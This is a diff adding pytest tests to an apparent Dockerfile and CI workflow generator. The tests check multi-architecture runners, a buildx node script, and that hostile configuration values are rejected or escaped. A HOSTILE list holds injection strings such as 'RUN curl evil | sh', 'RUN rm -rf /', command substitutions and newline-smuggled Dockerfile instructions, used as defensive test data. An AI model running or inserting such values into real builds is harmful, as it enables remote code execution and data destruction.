@@ -187,6 +187,102 @@ def test_bake_file_names_every_target_with_its_dockerfile_and_release(files: dic
     assert 'attest = ["type=sbom", "type=provenance,mode=max"]' in bake
 
 
+def test_workflow_has_native_runners_merge_qemu_mac_and_scan(files: dict[str, str]) -> None:
+    flow = files[".github/workflows/archlock-images.yml"]
+    assert 'runner: "ubuntu-24.04-arm"' in flow and 'runner: "ubuntu-24.04"' in flow
+    assert "push-by-digest=true" in flow
+    assert "docker buildx imagetools create" in flow
+    assert "docker/setup-qemu-action" in flow and "qemu:" in flow
+    assert "nox -s verify -- --pull --image" in flow  # the Mac job: tests/unit/test_ci_graph.py
+    assert "nox -s scan" in flow
+    assert "nox -s render -- --check" in flow
+
+
+def test_builder_nodes_render_a_buildx_append_script(tmp_path: Path) -> None:
+    settings = render.RenderSettings(
+        image_name="demo", builder_nodes={"linux/amd64": "ssh://ci@x86-box", "linux/arm64": "tcp://graviton:1234"}
+    )
+    out = render.render_files(tmp_path, settings, [make_target()])
+    script = out[tmp_path / "docker/buildx-nodes.sh"]
+    assert script.startswith("#!/usr/bin/env bash\n")
+    assert 'docker buildx create --name archlock --node archlock-linux-amd64 \\\n  --platform linux/amd64 "ssh://ci@x86-box"' in script
+    assert "--append --node archlock-linux-arm64" in script
+
+
+def test_multiarch_takes_one_non_opt_in_env_per_platform() -> None:
+    cpu = make_target(env="linux-amd64-cpu", platforms=("linux/amd64",), opt_in=True, runner="ubuntu-24.04")
+    chosen = render.multiarch([cpu, cuda_target(), make_target()])
+    assert [t.env for t in chosen] == ["linux-amd64-cuda", "linux-arm64-cpu"]
+
+
+# -- hostile values -----------------------------------------------------------------------------
+HOSTILE = [
+    'x"\nRUN curl evil | sh',
+    "x\nRUN rm -rf /",
+    "$(touch /pwned)",
+    "`id`",
+    "a b",
+    "x'; echo pwned; '",
+    "${{ secrets.TOKEN }}",
+    "x\r\nFROM evil",
+    "x\u2028RUN evil",
+    "x\\",
+]
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+@pytest.mark.parametrize("field_name", ["env", "python", "base_image", "lock_path", "lock_sha256", "runner", "accelerator"])
+def test_hostile_target_values_are_refused(field_name: str, value: str) -> None:
+    with pytest.raises(ConfigError) as info:
+        make_target(**{field_name: value})
+    assert "\n" not in info.value.line()  # one line, the value shown as a repr
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_hostile_platform_and_index_are_refused(value: str) -> None:
+    with pytest.raises(ConfigError):
+        make_target(platforms=(value,))
+    with pytest.raises(ConfigError):
+        make_target(extra_index_url="https://x.example/" + value)
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+@pytest.mark.parametrize("key", ["image_name", "uv_image", "registry", "workflow_dir"])
+def test_hostile_settings_are_refused(key: str, value: str) -> None:
+    values = {"image_name": "demo", key: value}
+    with pytest.raises(ConfigError):
+        render.RenderSettings(**values)  # type: ignore[arg-type]
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_hostile_runner_and_builder_node_settings_are_refused(value: str) -> None:
+    with pytest.raises(ConfigError):
+        render.RenderSettings(image_name="demo", runners={"linux/arm64": value})
+    with pytest.raises(ConfigError):
+        render.RenderSettings(image_name="demo", builder_nodes={"linux/arm64": value})
+    with pytest.raises(ConfigError):
+        render.RenderSettings(image_name="demo", builder_nodes={value: "ssh://host"})
+
+
+@pytest.mark.parametrize("field_name", ["env", "base_image", "lock_path", "python"])
+def test_filters_refuse_what_validation_would_have_caught(tmp_path: Path, settings: render.RenderSettings, field_name: str) -> None:
+    """Defence in depth: even a target that skipped validation cannot inject an instruction."""
+    target = make_target()
+    object.__setattr__(target, field_name, 'ok"\nRUN echo injected')
+    with pytest.raises(ConfigError):
+        render.render_files(tmp_path, settings, [target])
+
+
+def test_dockerfile_str_escapes_shell_and_dockerfile_metacharacters() -> None:
+    assert du.dockerfile_str('a"b') == '"a\\"b"'
+    assert du.dockerfile_str("$(id)") == '"\\$(id)"'
+    assert du.dockerfile_str("`id`") == '"\\`id\\`"'
+    assert du.dockerfile_str("a\\b") == '"a\\\\b"'
+    for bad in ("a\nb", "a\rb", "a\x00b", "a\u2029b"):
+        with pytest.raises(ConfigError):
+            du.dockerfile_str(bad)
+
+
 def test_dockerfile_word_refuses_anything_but_a_plain_word() -> None:
     assert du.dockerfile_word("ghcr.io/a/b:1@sha256:" + "0" * 64)
     for bad in ("a b", "a\"", "$X", "a\nb", "a;b", ""):
